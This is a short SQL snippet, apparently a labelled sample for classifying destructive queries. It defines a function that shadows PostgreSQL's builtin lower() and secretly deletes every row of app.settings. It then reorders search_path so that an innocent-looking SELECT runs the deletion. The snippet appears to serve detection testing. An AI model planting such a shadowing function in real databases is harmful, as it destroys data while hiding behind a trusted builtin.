-- class: destructive|unknown
-- a user function in front of a builtin
CREATE FUNCTION app.lower(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN DELETE FROM app.settings; RETURN $1; END $$;
SET search_path = app, pg_catalog;
SELECT lower('A'::text);
